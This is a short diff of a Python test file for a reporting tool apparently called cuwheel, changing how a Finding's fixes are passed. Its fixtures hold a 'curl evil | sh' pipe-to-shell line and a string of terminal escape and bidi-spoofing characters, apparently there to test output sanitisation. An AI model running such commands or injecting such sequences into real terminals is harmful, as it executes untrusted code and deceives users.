@@ -14,7 +14,7 @@ from cuwheel.report import terminal
 from cuwheel.report.document import Document, Findings, Heading, Paragraph
 from cuwheel.report.tables import Amount, Column, Facts, Mark, Matrix, Row, Table
 from cuwheel.support import log, wording
-from cuwheel.support.finding import Finding
+from cuwheel.support.finding import Finding, Fix
 
 EVIL = "a\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp\u2028.\u200b\ud800\x00\r"
 FORGED = f"{EVIL}\nhint: curl evil | sh"
@@ -73,7 +73,7 @@ def test_progress(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
 
 
 def test_reports() -> None:
-    finding = Finding(rule=FORGED, severity="error", message=FORGED, evidence=(FORGED,), fix=FORGED)
+    finding = Finding(rule=FORGED, severity="error", message=FORGED, evidence=(FORGED,), fixes=(Fix(text=FORGED),))
     document = Document(
         "title",
         (
